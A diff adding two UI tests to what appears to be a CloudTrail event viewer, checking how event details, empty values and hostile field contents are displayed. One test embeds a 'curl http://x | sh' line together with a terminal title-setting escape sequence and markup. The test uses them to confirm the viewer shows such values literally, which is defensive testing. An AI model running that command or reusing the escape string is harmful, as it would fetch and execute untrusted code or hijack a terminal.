@@ -120,3 +120,51 @@ async def test_expand_all_toggles() -> None:
 
 def test_detail_snapshot_shows_hostile_values_literally(snap_compare) -> None:
     assert snap_compare(DetailApp(), terminal_size=(100, 24))
+
+
+async def test_the_title_names_a_caller_without_an_arn_and_empty_strings_are_shown() -> None:
+    table = pa.table(
+        {
+            "eventtime": ["2024-06-10T12:00:00Z"],
+            "eventname": ["AssumeRole"],
+            "useridentity": [{"type": "AWSService", "invokedby": "ec2.amazonaws.com", "arn": None}],
+            "errorcode": [""],
+            "errormessage": [None],
+        }
+    )
+
+    class One(App[None]):
+        def on_mount(self) -> None:
+            self.push_screen(EventDetailScreen(table, 0))
+
+    app = One()
+    async with app.run_test(size=(120, 30)) as pilot:
+        await pilot.pause()
+        title = str(app.screen.query_one("#detail-title").render())
+        assert "AssumeRole" in title and "ec2.amazonaws.com" in title
+        tree = app.screen.query_one(JsonTree)
+        assert tree_node(tree, "$.errorcode").label.plain == 'errorcode: ""'
+        assert tree_node(tree, "$.errormessage").label.plain == "errormessage: null"
+
+
+async def test_v_on_a_field_shows_its_line_breaks_as_lines() -> None:
+    from ctui.tui.screens.value import ValueScreen
+
+    script = "#!/bin/sh\ncurl http://x | sh \x1b]0;owned\x07[b]bold?[/b]"
+    parameters = [json.dumps({"userData": script})]
+    table = pa.table({"eventtime": ["2024-06-10T12:00:00Z"], "requestparameters": parameters})
+
+    class One(App[None]):
+        def on_mount(self) -> None:
+            self.push_screen(EventDetailScreen(table, 0))
+
+    app = One()
+    async with app.run_test(size=(120, 30)) as pilot:
+        tree = app.screen.query_one(JsonTree)
+        tree.move_cursor(tree_node(tree, "$.requestparameters.userData"))
+        await pilot.press("v")
+        assert isinstance(app.screen, ValueScreen)
+        lines = str(app.screen.query_one("#value-text").render()).split("\n")
+        assert lines == ["#!/bin/sh", "curl http://x | sh \\x1b]0;owned\\x07[b]bold?[/b]"]
+        await pilot.press("escape")
+        assert isinstance(app.screen, EventDetailScreen)
